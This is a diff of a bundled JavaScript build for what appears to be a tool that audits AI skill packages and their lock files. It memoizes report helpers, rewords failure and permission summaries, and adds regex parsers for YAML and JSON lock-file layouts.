@@ -236,7 +236,7 @@ function closestMatch(name, candidates, limit = Math.max(1, Math.floor(name.leng
 	}
 	return best;
 }
-function nearMiss(name, candidates) {
+function likelyTypoOf(name, candidates) {
 	return closestMatch(name, candidates, Math.floor(name.length / 4));
 }
 function didYouMean(name, candidates, mark = "\"") {
@@ -471,6 +471,17 @@ const gateOptions = [
 		help: "pass if there is no skill"
 	}
 ];
+// src/model/text/memoize.ts
+function memoize(compute) {
+	const cache = new WeakMap();
+	return (object) => {
+		const cached = cache.get(object);
+		if (cached) return cached.value;
+		const value = compute(object);
+		cache.set(object, { value });
+		return value;
+	};
+}
 // src/model/power.ts
 const unitKinds = [
 	"repository",
@@ -568,7 +579,7 @@ function toolFindings(findings) {
 	};
 }
 // src/report/sections.ts
-function sectionsOf(report) {
+const sectionsOf = memoize((report) => {
 	const lists = {
 		privilege: [],
 		problems: [],
@@ -590,7 +601,7 @@ function sectionsOf(report) {
 		...lists,
 		changes: [...lists.changes].sort((a, b) => visibility(a) - visibility(b))
 	};
-}
+});
 function rootsUnversionedAtBase({ skills }) {
 	const unversioned = skills.filter(({ base }) => base !== null && !base.version);
 	return new Set(unversioned.map(({ root }) => root));
@@ -1357,16 +1368,36 @@ function whereClause(report) {
 	if (all === 0) return `, no skills${compared}`;
 	if (affected.size === 0) return ` outside the ${all === 1 ? "skill" : `${all} skills`}${compared}`;
 	const skills = `${affected.size === all ? "" : `${affected.size} of `}${count$1(all, "skill")}${compared}`;
-	return outside === 0 ? ` in ${skills}` : `: ${inside.length} in ${skills}, ${outside} elsewhere`;
+	return outside === 0 ? ` in ${skills}` : `; ${inside.length} of them in ${skills}, ${outside} elsewhere`;
 }
 function comparedClause(report) {
 	return report.base ? ` (${changedCounts(report)})` : "";
 }
-function changedCounts({ summary, skills }) {
-	const removed = skills.filter(({ status }) => status === "removed").length;
-	const changed = summary.changed - removed;
-	if (removed === 0) return `${changed === 0 ? "none" : changed} changed`;
-	return changed === 0 ? `${removed} removed` : `${changed} changed, ${removed} removed`;
+function changedCounts(report) {
+	const { amount, verb, kinds } = changedSkills$1(report);
+	const details = kinds === "" ? "" : `, ${kinds}`;
+	return `${amount === 0 ? "none" : amount} ${verb}${details}`;
+}
+function changedSkills$1({ skills }) {
+	const changed = skills.filter(({ status }) => status !== null && status !== "unchanged");
+	const amount = changed.length;
+	const countOf = (status) => changed.filter((skill) => skill.status === status).length;
+	const [added, removed] = [countOf("added"), countOf("removed")];
+	if (amount > 0 && added === amount) return {
+		amount,
+		verb: "added",
+		kinds: ""
+	};
+	if (amount > 0 && removed === amount) return {
+		amount,
+		verb: "removed",
+		kinds: ""
+	};
+	return {
+		amount,
+		verb: "changed",
+		kinds: [...added > 0 ? [`${added} of them new`] : [], ...removed > 0 ? [`${removed} ${added > 0 ? "" : "of them "}removed`] : []].join(" and ")
+	};
 }
 function failOnSuffix({ failOn, outcome, summary: { errors } }) {
 	if (outcome === "pass") return failOn === "never" && errors > 0 ? "; fail-on is never, so this passes" : "";
@@ -1379,10 +1410,11 @@ function existingNote({ findings, scope, summary }, setting) {
 	if (existingCount === 0) return null;
 	const all = summary.errors + summary.warnings;
 	const hint = `To check only what changes, as pull requests do by default: ${setting}.`;
+	const counts = [count$1(summary.errors, "error"), count$1(summary.warnings, "warning")].filter((part) => part !== "").join(" and ");
 	if (all === 1) return `This change did not cause the finding: base has it too. ${hint}`;
-	if (existingCount === all) return `This change caused none of these ${all} findings: base has them too. ${hint}`;
+	if (existingCount === all) return `This change caused none of the ${counts}: base has them too. ${hint}`;
 	const [are, them] = existingCount === 1 ? ["is", "it"] : ["are", "them"];
-	return `${existingCount} of these ${all} findings ${are} not new: base has ${them} too. ${hint}`;
+	return `${existingCount} of the ${counts} ${are} not new: base has ${them} too. ${hint}`;
 }
 function fixableCounts(report) {
 	const counted = countedFindings(report).filter(({ severity, fix }) => severity !== "note" || fix !== void 0);
@@ -1415,6 +1447,10 @@ function hasUndeclaredBreak({ satisfied, requiredBump, base }) {
 function decisiveFindings({ outcome, failing, findings, scope }) {
 	if (outcome === "fail") return failing;
 	return findings.filter(({ severity, state }) => severity === "error" && (state === "new" || state === "existing" && scope === "all"));
+}
+function failsForExisting(report) {
+	const decisive = decisiveFindings(report);
+	return report.scope === "all" && decisive.length > 0 && decisive.every(({ state }) => state === "existing");
 }
 function failingSkills(report) {
 	const skillsByRoot = new Map(report.skills.map((skill) => [skill.root, skill]));
@@ -1479,7 +1515,7 @@ const plainMarkup = {
 // src/report/summary/failing-sentence.ts
 function failingSentence(report, failing, markup) {
 	const [first] = failing;
-	if (failing.length === 1 && first) return failureSentence(first, markup);
+	if (failing.length === 1 && first) return report.base === null && report.outcome === "fail" ? verdictSentence$1(first, markup) : failureSentence(first, markup);
 	const [cause, ...otherCauses] = new Set(failing.map((failure) => failure.cause));
 	if (cause !== void 0 && otherCauses.length === 0 && !failing.some(isOutsideSkills)) {
 		const sentence = commonSentence(cause, failing, markup);
@@ -1497,14 +1533,32 @@ function firstSentence({ message }) {
 	return sentence.length <= maxMessage ? sentence.replace(/\.$/, "") : null;
 }
 function failureSentence(failure, markup) {
-	const { skill, findings } = failure;
+	const { skill } = failure;
 	const sentence = skill && causeSentence(skill, failure, markup);
 	if (sentence) return sentence;
-	const name = isOutsideSkills(failure) ? "" : markup.name(failure.name);
+	const title = onlyTitle(failure);
+	if (title !== null) {
+		const subject = subjectOf(failure, markup);
+		return `${subject === "" ? "" : `${subject}: `}${markup.prose(title)}`;
+	}
+	return isOutsideSkills(failure) ? `${problems(failure.findings)} outside the skills` : `${markup.name(failure.name)} has ${problems(failure.findings)}`;
+}
+function verdictSentence$1(failure, markup) {
+	const title = onlyTitle(failure);
+	if (title !== null) {
+		const subject = subjectOf(failure, markup);
+		return `${subject === "" ? "Does" : `${subject} does`} not pass: ${markup.prose(title)}`;
+	}
+	return isOutsideSkills(failure) ? `Does not pass: ${problems(failure.findings)} outside the skills` : `${markup.name(failure.name)} does not pass: ${problems(failure.findings)}`;
+}
+function onlyTitle({ findings }) {
 	const [single] = findings;
-	const title = findings.length === 1 && single ? titleOf(single) : null;
-	if (single && title !== null) return `${name || markup.code(placeText(single.at))}: ${markup.prose(title)}`;
-	return name === "" ? `${problems(findings)} outside the skills` : `${name} has ${problems(findings)}`;
+	return findings.length === 1 && single ? titleOf(single) : null;
+}
+function subjectOf(failure, markup) {
+	const [single] = failure.findings;
+	if (!isOutsideSkills(failure) || !single) return markup.name(failure.name);
+	return single.at.path === "." ? "" : markup.code(placeText(single.at));
 }
 function causeSentence(skill, failure, markup) {
 	const name = markup.name(skill.name);
@@ -1535,14 +1589,17 @@ function commonSentence(cause, failing, markup) {
 		case "decreased": return `The versions of ${skills} go down`;
 		case "policy": return `${skills} may do more than the policy allows`;
 		case "lock": return findings.every(isStalePin) ? `The lock entries of ${skills} are out of date` : null;
-		default: {
-			const [rule, ...others] = new Set(findings.map((finding) => finding.rule));
-			if (rule === void 0 || others.length > 0) return null;
-			const sentences = new Set(findings.map(firstSentence));
-			const [sentence] = sentences;
-			return `${skills} do not pass, all for one reason: ${sentences.size === 1 && sentence ? markup.prose(sentence) : markup.code(rule)}`;
-		}
+		default: return oneReasonSentence(failing, markup);
 	}
+}
+function oneReasonSentence(failing, markup) {
+	const findings = failing.flatMap((failure) => failure.findings);
+	const [rule, ...others] = new Set(findings.map((finding) => finding.rule));
+	if (rule === void 0 || others.length > 0) return null;
+	const sentences = new Set(findings.map(firstSentence));
+	const [sentence] = sentences;
+	const reason = sentences.size === 1 && sentence ? markup.prose(sentence) : markup.code(rule);
+	return `${count$1(failing.length, "skill")} do not pass, all for one reason: ${reason}`;
 }
 function listSentence(report, failing, markup) {
 	const skills = failing.filter((failure) => !isOutsideSkills(failure));
@@ -1811,10 +1868,10 @@ const kinds$3 = [
 ];
 // src/report/summary/headline.ts
 function headline(report, markup = plainMarkup) {
+	const permissions = newPermissions(report);
 	const failing = failingSkills(report);
 	if (failing.length > 0) {
-		const decisive = failing.flatMap(({ findings }) => findings);
-		const text = `${failingSentence(report, failing, markup)}${notNewClause(report, decisive, ofFindings(decisive))}`;
+		const text = `${failureClause(report, failing, markup)}${gainClause(report, permissions, markup)}`;
 		if (report.outcome === "fail") return {
 			mark: "fail",
 			text
@@ -1824,12 +1881,18 @@ function headline(report, markup = plainMarkup) {
 			text: `${text}; ${markup.code("fail-on: never")} lets it pass`
 		};
 	}
-	const permissions = newPermissions(report);
 	const text = passingSentence(report, permissions, markup);
 	return {
 		mark: permissions.amount > 0 ? "warning" : "pass",
 		text
 	};
+}
+function failureClause(report, failing, markup) {
+	const decisive = failing.flatMap(({ findings }) => findings);
+	if (!failsForExisting(report)) return `${failingSentence(report, failing, markup)}${notNewClause(report, decisive, ofFindings(decisive))}`;
+	const verb = decisive.length === 1 ? "is" : "are";
+	const sentence = `${count$1(decisive.length, `existing ${nounOf$1(decisive)}`)} ${verb} counted; this change adds none`;
+	return report.outcome === "fail" ? `Does not pass: ${sentence}` : sentence;
 }
 function passingSentence(report, permissions, markup) {
 	const { skills, warnings, notes, changed } = report.summary;
@@ -1887,6 +1950,18 @@ function newPermissions(report) {
 function lookClause({ amount }) {
 	return `${count$1(amount, "new permission")} ${amount === 1 ? "needs" : "need"} a look`;
 }
+function gainClause(report, permissions, markup) {
+	const decisive = new Set(decisiveFindings(report));
+	const others = [...permissions.findings].filter((finding) => !decisive.has(finding));
+	if (others.length === 0) return "";
+	const outside = others.filter(({ skill }) => skill === null);
+	if (!outside.every((finding) => isOfRepository(report, new Set([finding]))) || others.length < permissions.findings.size) return `; ${lookClause(permissions)}`;
+	const roots = new Set(others.flatMap(({ skill }) => skill ?? []));
+	const [single, ...more] = report.skills.filter(({ root }) => roots.has(root));
+	const owners = [...single ? [more.length === 0 ? markup.name(single.name) : `${more.length + 1} skills`] : [], ...outside.length > 0 ? ["the repository"] : []];
+	const isSingle = owners.length === 1 && more.length === 0;
+	return `; ${owners.join(" and ")} ${isSingle ? "gains" : "gain"} permissions`;
+}
 function ownersOf$1(report, { findings }, markup) {
 	const roots = new Set([...findings].map(({ skill }) => skill));
 	const skills = report.skills.filter(({ root }) => roots.has(root));
@@ -1909,12 +1984,15 @@ function notNewClause({ scope }, findings, ofAll = "") {
 	const old = findings.filter(({ state }) => state === "existing").length;
 	if (scope !== "all" || old === 0) return "";
 	if (findings.length === 1) return "; it is not new";
-	if (old === findings.length) return `; none${ofAll} is new`;
-	return `; ${old}${ofAll} ${old === 1 ? "is" : "are"} not new`;
+	if (old === findings.length) return "; none is new";
+	const verb = old === 1 ? "is" : "are";
+	return `; ${old}${ofAll} ${verb} not new${ofAll === "" ? "" : `, but ${verb} counted`}`;
 }
 function ofFindings(findings) {
-	const isError = findings.every(({ severity }) => severity === "error");
-	return ` of the ${count$1(findings.length, isError ? "error" : "finding")}`;
+	return ` of the ${count$1(findings.length, nounOf$1(findings))}`;
+}
+function nounOf$1(findings) {
+	return findings.every(({ severity }) => severity === "error") ? "error" : "finding";
 }
 function namesExisting(report, { text }) {
 	const clause = existingClause(report);
@@ -2022,7 +2100,7 @@ function othersSuffix(others) {
 	return ` (and ${others.length} more in this file${lineSuffix})`;
 }
 // src/report/natural-order.ts
-function inNaturalOrder(report) {
+const inNaturalOrder = memoize((report) => {
 	const { skills, findings, failing, powers, units, locks, catalogue } = report;
 	return {
 		...report,
@@ -2034,7 +2112,7 @@ function inNaturalOrder(report) {
 		locks: sortNaturally(locks, ({ path }) => path),
 		catalogue: catalogue && catalogueInNaturalOrder(catalogue)
 	};
-}
+});
 function catalogueInNaturalOrder({ skills, units }) {
 	return {
 		skills: sortNaturally(skills, ({ root }) => root),
@@ -2056,7 +2134,7 @@ function sortGroups(values, keyOf) {
 	})).sort((a, b) => a.key[0] - b.key[0] || compareNatural(a.key[1], b.key[1])).map(({ value }) => value);
 }
 // src/report/summary/accept-entries.ts
-function acceptEntries(report, maxEntries, markup) {
+function acceptEntries(report, { maxEntries, allShownBy }, markup) {
 	const acceptable = report.findings.filter(isAcceptable).sort((a, b) => severityRank[a.severity] - severityRank[b.severity]);
 	if (acceptable.length === 0 || maxEntries === 0) return null;
 	const configured = configuredFingerprints(report);
@@ -2068,7 +2146,7 @@ function acceptEntries(report, maxEntries, markup) {
 	return {
 		title: acceptTitle(acceptable),
 		advice: [...pendingSentence(pending, maxEntries, branch ?? "the target branch"), ...missing.length === 0 ? [] : adviceOn$1(missing, report, branch)].join(" "),
-		lines: [...lines, ...omitted > 0 ? [`  # and ${omitted} more`] : []]
+		lines: [...lines, ...omitted > 0 ? [`  # and ${omitted} more: ${allShownBy}`] : []]
 	};
 }
 function configuredFingerprints({ findings }) {
@@ -2140,15 +2218,10 @@ function baseName({ sha, name }, markup) {
 	const commit = sha.slice(0, 7);
 	return name === void 0 ? commit : `${markup.code(name)} (${commit})`;
 }
-function changedClause({ skills, summary }) {
-	const changed = skills.filter(isChanged);
-	if (changed.length === 0) return `${count$1(summary.skills, "skill") || "No skills"}, none changed`;
-	const countOf = (status) => changed.filter((skill) => skill.status === status).length;
-	const [added, removed] = [countOf("added"), countOf("removed")];
-	const kinds = [...added > 0 && added < changed.length ? [`${added} of them new`] : [], ...removed > 0 && removed < changed.length ? [`${removed} removed`] : []];
-	const verb = added === changed.length ? "added" : removed === changed.length ? "removed" : "changed";
-	const details = kinds.length === 0 ? "" : ` (${kinds.join(", ")})`;
-	return `${count$1(changed.length, "skill")} ${verb}${details}`;
+function changedClause(report) {
+	const { amount, verb, kinds } = changedSkills$1(report);
+	if (amount === 0) return `${count$1(report.summary.skills, "skill") || "No skills"}, none changed`;
+	return `${count$1(amount, "skill")} ${verb}${kinds === "" ? "" : ` (${kinds})`}`;
 }
 function failingClause(report) {
 	const roots = failingRoots(report);
@@ -2394,33 +2467,39 @@ function lockRemedies(report, findings, { markup, formatPath }) {
 	}] : []];
 }
 function ruleRemedies(findings, report, style) {
-	return [...groupBy(withoutConsequences(findings), ({ rule }) => rule).values()].map((group) => {
+	return [...groupBy(findings, ({ rule }) => rule).values()].map((group) => {
 		return {
 			text: ruleText(group, report, style),
 			resolved: group
 		};
 	});
 }
-function withoutConsequences(findings) {
-	const isConsequence = ({ rule }) => rule === "permissions-unreadable";
-	const key = ({ skill, at }) => `${skill}\0${placeText(at)}`;
-	const causes = new Set(findings.filter((finding) => !isConsequence(finding)).map(key));
-	return findings.filter((finding) => !isConsequence(finding) || !causes.has(key(finding)));
-}
 function ruleText(group, report, style) {
 	const { markup, docsOf } = style;
 	const [first, ...others] = group;
-	const places = placeList(group, style, (finding) => markup.place(finding.at));
-	const placeClause = others.length === 0 ? "" : ` in ${group.length} places`;
+	const lines = [...groupBy(group, ({ at }) => placeText(at)).values()];
+	const places = someOf(lines.map((sameLine) => lineOf$3(sameLine, style)), style.maxPlaces);
+	const placeClause = group.length > lines.length ? ` (${group.length} findings in ${count$1(lines.length, "line")})` : others.length === 0 ? "" : ` in ${group.length} places`;
 	const fixable = group.filter(({ fix }) => fix !== void 0).length;
 	const command = `${markup.code("skillaccord fix")}${addFirst(report, style)}`;
 	const subject = `${markup.rule(first.rule)}${placeClause}`;
 	if (fixable === group.length) return `Run ${command}, which fixes ${subject}: ${places}. Then commit.`;
 	const part = fixable === 0 ? "" : ` (${command} fixes ${fixable} of them)`;
-	const sentence = decisiveFindings(report).length > 1 && others.length === 0 ? firstSentence(first) : null;
+	const sentence = (decisiveFindings(report).length > 1 || failsForExisting(report)) && others.length === 0 ? firstSentence(first) : null;
 	const own = sentence === null ? "" : ` ${markup.prose(`${sentence}.`)}`;
 	const advice = adviceOn(group, withoutFixCommand(docsOf(first.rule)?.howToFix), report, style);
 	return `Fix ${subject}${part}${group.every(({ at }) => at.path === ".") ? "" : `: ${places}`}.${own}${advice === void 0 ? "" : ` ${advice}`}`;
+}
+function lineOf$3(findings, { markup, maxPlaces }) {
+	const [first, ...others] = findings;
+	const place = markup.place(first.at);
+	if (others.length === 0 || first.rule !== "link-target") return place;
+	return `links ${joined(findings.flatMap(({ about }) => about === void 0 ? [] : markup.code(about)), maxPlaces)} of ${place}`;
+}
+function joined(all, limit) {
+	const last = all.at(-1);
+	if (all.length > limit + 1 || all.length < 2 || last === void 0) return someOf(all, limit);
+	return `${all.slice(0, -1).join(", ")} and ${last}`;
 }
 function adviceOn(group, advice, report, { markup, formatPath }) {
 	const [path, ...otherPaths] = new Set(group.map(({ at }) => at.path));
@@ -2555,8 +2634,11 @@ function nameReplacer(name) {
 }
 function pathReplacer(path) {
 	if (!path) return (text) => text;
+	return (text) => text.includes(path) ? text.replace(wholePath(path), "\u2026") : text;
+}
+function wholePath(path) {
 	const escaped = path.replace(/[.*+?^${}()|[\]\\]/g, "\\$&");
-	return (text) => text.includes(path) ? text.replace(new RegExp(`(?<![\\w./-])${escaped}(?![\\w-])`, "g"), "\u2026") : text;
+	return new RegExp(`(?<![\\w./-])${escaped}(?![\\w-])`, "g");
 }
 // src/report/summary/alike.ts
 const minAlike$1 = 4;
@@ -2612,19 +2694,28 @@ function ownerOf$2({ skill: root, at }, skills) {
 	if (root === null || isAtOrInside(at.path, root)) return null;
 	return skills.get(root)?.name ?? root;
 }
+const knownKeys$6 = new WeakMap();
 function keyOf$8(finding, skills) {
+	const skill = finding.skill === null ? void 0 : skills.get(finding.skill);
+	const known = knownKeys$6.get(finding);
+	if (known && known.skill === skill) return known.text;
 	const { rule, severity, state, bump, fix, message, related } = finding;
 	const texts = [message, ...related.map((relatedPlace) => relatedPlace.message)];
-	return JSON.stringify([...[
+	const text = JSON.stringify([...[
 		rule,
 		severity,
 		state,
 		bump,
 		fix !== void 0
-	], ...texts.map((text) => neutralMessage(text, finding, skills, {
+	], ...texts.map((own) => neutralMessage(own, finding, skills, {
 		names: true,
 		paths: true
 	}))]);
+	knownKeys$6.set(finding, {
+		skill,
+		text
+	});
+	return text;
 }
 // src/report/markdown/markup.ts
 function markdownMarkup(plan) {
@@ -3000,7 +3091,7 @@ function mergeAlike(rows) {
 	return [...groupBy(rows, keyOf).values()].flatMap((group) => {
 		const [first, ...others] = group;
 		if (!first || group.length < minAlike) return group;
-		const reason = first.reason.replace(/\d (?:other )?(?:error|warning)s?$/, "$& each");
+		const reason = first.reason.replace(/\d (?:other )?(?:error|finding|warning)s?(?=;|$)/, "$& each");
 		return [{
 			...first,
 			reason,
@@ -3070,7 +3161,7 @@ function reasonOf$2(facts, markup) {
 		...status === "added" ? ["new"] : [],
 		...base && status === "moved" ? [`moved from ${markup.name(base.root || root)}`] : [],
 		...changeClause(facts, markup),
-		...others.length > 0 ? [count$1(others.length, others.length < failing.length ? "other error" : "error")] : [],
+		...others.length > 0 ? [count$1(others.length, `${others.length < failing.length ? "other " : ""}${nounOf(others)}`)] : [],
 		...grew && status !== "added" ? ["permissions grew"] : [],
 		...stale.length > 0 ? ["lock entry out of date"] : isRepinned ? ["lock entry updated"] : []
 	];
@@ -3080,6 +3171,9 @@ function reasonOf$2(facts, markup) {
 		...parts.length > 0 ? new Set(parts) : [quietReason(skill)],
 		...warnings.length > 0 ? [count$1(warnings.length, parts.length > 0 ? "other warning" : "warning")] : []
 	].join("; ");
+}
+function nounOf(findings) {
+	return findings.every(({ severity }) => severity === "error") ? "error" : "finding";
 }
 function isPlainWarning({ severity, state, category, bump, rule }) {
 	return category !== "version" && bump === null && rule !== "skill-removed" && severity === "warning" && state === "new";
@@ -3308,7 +3402,10 @@ function existingSentence(report, title, { docs }) {
 	return [`${count$1(existing, "existing finding")} ${verb} not counted${brackets}.`];
 }
 function acceptSection(report, plan) {
-	const entries = acceptEntries(report, Math.min(plan.findings, 20), markdownMarkup(plan));
+	const entries = acceptEntries(report, {
+		maxEntries: Math.min(plan.findings, 20),
+		allShownBy: "skillaccord check --verbose"
+	}, markdownMarkup(plan));
 	if (!entries) return [];
 	return [
 		`<details><summary>${entries.title}</summary>`,
@@ -3729,8 +3826,8 @@ function groupLines$1({ first, message, remarks, members }, style) {
 function placeLines(members, margin, style) {
 	return indentText(someOf(members.map(({ finding, owner }) => {
 		const place = finding.at.path === "" ? "the repository" : fileLine(finding.at, style);
-		const remark = needsFingerprint(finding) ? finding.fingerprint : owner;
-		return remark === null ? place : `${place} (${plainMarkup.name(remark)})`;
+		const label = needsFingerprint(finding) ? finding.fingerprint : owner;
+		return label === null ? place : `${place} (${plainMarkup.name(label)})`;
 	}), style.maxPlaces), margin, style);
 }
 function indentText(text, margin, { width }) {
@@ -3880,8 +3977,12 @@ function allBlocks(report, options) {
 function asBlocks(lines) {
 	return lines.length > 0 ? [lines] : [];
 }
-function acceptBlock(report, { colour, width }) {
-	const entries = acceptEntries(report, 3, plainMarkup);
+const maxEntries = 3;
+function acceptBlock(report, { colour, width, detail }) {
+	const entries = acceptEntries(report, {
+		maxEntries: detail === "verbose" ? Number.POSITIVE_INFINITY : maxEntries,
+		allShownBy: "--verbose"
+	}, plainMarkup);
 	if (!entries) return [];
 	const paint = painter(colour);
 	return [...wrap(`${entries.title}: ${entries.advice}`, width).map((line) => paint("faint", line)), ...entries.lines];
@@ -5698,9 +5799,9 @@ function unterminatedString({ stop: { expected, open }, rest }) {
 		start: open
 	};
 	const unit = rest.charCodeAt(0);
-	if (unit === 9) return { message: "There is a tab inside a text. Write `\\t`" };
-	if (unit === 10 || unit === 13) return { message: "The line ends inside a text. Close it with a quotation mark, or write `\\n`" };
-	return { message: `There is a control character ${codePointLabel(unit)} inside a text. Write it as an escape` };
+	if (unit === 9) return { message: "There is a tab inside a string. Write `\\t`" };
+	if (unit === 10 || unit === 13) return { message: "The line ends inside a string. Close it with a quotation mark, or write `\\n`" };
+	return { message: `There is a control character ${codePointLabel(unit)} inside a string. Write it as an escape` };
 }
 const emptyMessage = "The block is empty. Write an object with `id`, `version` and the other fields of the manifest";
 function unexpectedEnd({ text, stop: { open }, rest }) {
@@ -5733,7 +5834,7 @@ function wrongQuotes({ rest }) {
 }
 function unescapedQuote({ text, stop: { offset }, rest }) {
 	if (text[offset - 1] !== "\"" || !/^[\p{L}\p{N}_\\]/u.test(rest)) return void 0;
-	return { message: "The text ends at the quotation mark before this. Inside a text, write `\\\"`" };
+	return { message: "The string ends at the quotation mark before this. Inside a string, write `\\\"`" };
 }
 function missingToken({ stop: { expected }, rest }) {
 	const isValue = /^["{[\p{L}\d-]/u.test(rest);
@@ -9156,6 +9257,49 @@ function leakProblems(key, path, at) {
 		about: `${key}\0${sanitized}`
 	}];
 }
+// src/locks/plain-form.ts
+const plainText = "\"[ !#-\\[\\]-~]*\"";
+function divideLock(text, form) {
+	const start = matchAt(form.start, text, 0)?.[0];
+	if (start === void 0) return null;
+	const entries = new Map();
+	let offset = start.length;
+	for (;;) {
+		const match = matchAt(form.entry, text, offset);
+		if (!match) break;
+		const [entry] = match;
+		const id = match.groups?.id ?? "";
+		if (entries.has(id)) return null;
+		entries.set(id, entry);
+		offset += entry.length;
+	}
+	const end = matchAt(form.end, text, offset)?.[0];
+	if (end === void 0 || offset + end.length < text.length || leaksHome(text)) return null;
+	return entries.size > 0 ? {
+		start,
+		entries,
+		end
+	} : null;
+}
+function matchAt(expression, text, offset) {
+	expression.lastIndex = offset;
+	return expression.exec(text);
+}
+function withoutEntries({ start, entries, end }, isOmitted) {
+	const pieces = [start];
+	let omitted = 0;
+	let left = entries.size;
+	for (const [id, entry] of entries) {
+		left--;
+		const isBlank = left > 0 && isOmitted(id);
+		if (isBlank) omitted++;
+		pieces.push(isBlank ? entry.replace(/[^\n]+/g, "") : entry);
+	}
+	return {
+		text: [...pieces, end].join(""),
+		omitted
+	};
+}
 // src/locks/unreadable.ts
 function unreadableLock(path, text, fault, syntax) {
 	const conflict = /^<{7} /m.exec(text);
@@ -9196,17 +9340,17 @@ function lockFields(entry) {
 		}]];
 	}));
 }
-// src/locks/formats/proto-entry.ts
+// src/locks/formats/proto-lock-entry.ts
 const hashFields$1 = [{
 	field: "content_hash",
 	algorithm: "content",
-	shape: /^sha256:[0-9a-f]{64}$/i,
-	words: "\"sha256:\" and 64 hexadecimal digits"
+	pattern: /^sha256:[0-9a-f]{64}$/i,
+	expected: "\"sha256:\" and 64 hexadecimal digits"
 }, {
 	field: "integrity",
 	algorithm: "integrity",
-	shape: /^sha256-[A-Za-z0-9+/]{43}=$/,
-	words: "`sha256-` and the 44 characters of a SHA-256 in base64"
+	pattern: /^sha256-[A-Za-z0-9+/]{43}=$/,
+	expected: "`sha256-` and the 44 characters of a SHA-256 in base64"
 }];
 function parseEntry$1({ key, keyAt, value }) {
 	const emptyEntry = {
@@ -9242,10 +9386,10 @@ function parseEntry$1({ key, keyAt, value }) {
 		problems
 	};
 	const pins = [];
-	for (const { field, algorithm, shape, words } of hashFields$1) {
+	for (const { field, algorithm, pattern, expected } of hashFields$1) {
 		const hashValue = get(value, field);
 		const hashText = text$1(hashValue);
-		if (hashText !== void 0 && hashValue && shape.test(hashText)) {
+		if (hashText !== void 0 && hashValue && pattern.test(hashText)) {
 			const digest = algorithm === "content" ? hashText.toLowerCase() : hashText;
 			pins.push({
 				value: digest,
@@ -9253,11 +9397,11 @@ function parseEntry$1({ key, keyAt, value }) {
 				algorithm,
 				field
 			});
-		} else if (hashValue && hashValue.kind !== "null") report(`\`${field}\` of ${quote(key)} is ${formatValue(hashValue)}. Write ${words}.`, hashValue.at);
+		} else if (hashValue && hashValue.kind !== "null") report(`\`${field}\` of ${quote(key)} is ${formatValue(hashValue)}. Write ${expected}.`, hashValue.at);
 		else if (algorithm === "content") report(`The entry of ${quote(key)} has no \`content_hash\`, so the skill is not verified.`, keyAt);
 	}
 	const version = get(value, "version");
-	if (version?.kind === "list" || version?.kind === "table") report(`\`version\` of ${quote(key)} is ${formatValue(version)}. Write one text.`, version.at);
+	if (version?.kind === "list" || version?.kind === "table") report(`\`version\` of ${quote(key)} is ${formatValue(version)}. Write one string.`, version.at);
 	if (problems.length > 0) return {
 		entry: {
 			...emptyEntry,
@@ -9290,6 +9434,17 @@ const protoLock = {
 	field: hashField,
 	writer: null,
 	lookupBy: "name",
+	plainForm: {
+		start: /(?:(?:#[ -~]*)?\n){0,9}(?:generated_at: "[\w:.+-]*"\n)?(?:(?:#[ -~]*)?\n){0,9}skills:\n/y,
+		entry: new RegExp([
+			" {2}(?<quote>\"?)(?<id>\\w[\\w.-]*)\\k<quote>:\\n",
+			" {4}content_hash: (?<hash>\"?)sha256:[0-9a-f]{64}\\k<hash>\\n",
+			"(?: {4}integrity: (?<digest>\"?)sha256-[A-Za-z0-9+/]{43}=\\k<digest>\\n)?",
+			"(?: {4}(?<field>version|source_ref|source_rev|nix_store_path): ",
+			`(?:[A-Za-z0-9][\\w.+-]*|${plainText})\\n(?!(?: {4}.*\\n)*? {4}\\k<field>:))*`
+		].join(""), "y"),
+		end: /\n*/y
+	},
 	repin: {
 		syntax: "yaml",
 		order: [
@@ -9545,6 +9700,19 @@ function outsideProblem(id, { key, keyAt }, count) {
 	};
 }
 // src/locks/formats/json-lock.ts
+function plainJsonForm({ field }, keys) {
+	const pair = `"(?<key>${keys.join("|")})": ${plainText}`;
+	return {
+		start: /\{\n(?: {2}"version": \d{1,9},\n)? {2}"skills": \{\n/y,
+		entry: new RegExp([
+			" {4}\"(?<id>[\\w.-]+)\": \\{\\n",
+			`(?=(?: {6}.*\\n)*? {6}"${field}": "(?:[0-9a-f]{64})?",?\\n)`,
+			`(?: {6}${pair}(?:,\\n(?= {6})|\\n(?= {4}\\}))(?!(?: {6}.*\\n)*? {6}"\\k<key>":))+`,
+			" {4}\\}(?:,\\n(?= {4})|\\n(?= {2}\\}))"
+		].join(""), "y"),
+		end: / {2}\}\n\}\n*/y
+	};
+}
 function parseJsonLock(path, text, shape) {
 	const { format, field } = shape;
 	const hasLockName = nameOf$3(path) === shape.file;
@@ -9693,6 +9861,18 @@ const shape$5 = {
 	allowsEmptyHash: true,
 	hashesSource: true
 };
+const keys$3 = [...[
+	"source",
+	"sourceType",
+	"sourceUrl",
+	"ref",
+	"skillPath",
+	shape$5.field
+], ...[
+	"pluginName",
+	"installedAt",
+	"updatedAt"
+]];
 const skillLockV3 = {
 	id: shape$5.format,
 	title: "User lock of the skills command line",
@@ -9704,21 +9884,11 @@ const skillLockV3 = {
 		command: "npx skills update"
 	},
 	lookupBy: "installed",
+	plainForm: plainJsonForm(shape$5, keys$3),
 	parse: (path, text) => parseJsonLock(path, text, shape$5),
 	repin: {
 		syntax: "json",
-		order: [...[
-			"source",
-			"sourceType",
-			"sourceUrl",
-			"ref",
-			"skillPath",
-			shape$5.field
-		], ...[
-			"pluginName",
-			"installedAt",
-			"updatedAt"
-		]],
+		order: keys$3,
 		values: ({ digests, ref, skillPath, time }, { pins: [pin] }) => ({
 			ref,
 			skillPath,
@@ -9911,6 +10081,14 @@ const shape$2 = {
 	allowsEmptyHash: true,
 	hashesSource: true
 };
+const keys$2 = [
+	"source",
+	"sourceUrl",
+	"ref",
+	"sourceType",
+	"skillPath",
+	shape$2.field
+];
 const skillsLock$1 = {
 	id: shape$2.format,
 	title: "Project lock of the skills command line",
@@ -9922,17 +10100,11 @@ const skillsLock$1 = {
 		command: "npx skills update"
 	},
 	lookupBy: "installed",
+	plainForm: plainJsonForm(shape$2, keys$2),
 	parse: (path, text) => parseJsonLock(path, text, shape$2),
 	repin: {
 		syntax: "json",
-		order: [
-			"source",
-			"sourceUrl",
-			"ref",
-			"sourceType",
-			"skillPath",
-			shape$2.field
-		],
+		order: keys$2,
 		values: ({ digests, ref, skillPath }) => ({
 			ref,
 			skillPath,
@@ -10039,6 +10211,22 @@ function parseLock(path, text) {
 	return {
 		...lock,
 		problems: [...lock.problems, ...otherProblems]
+	};
+}
+function dividePlainLock(text) {
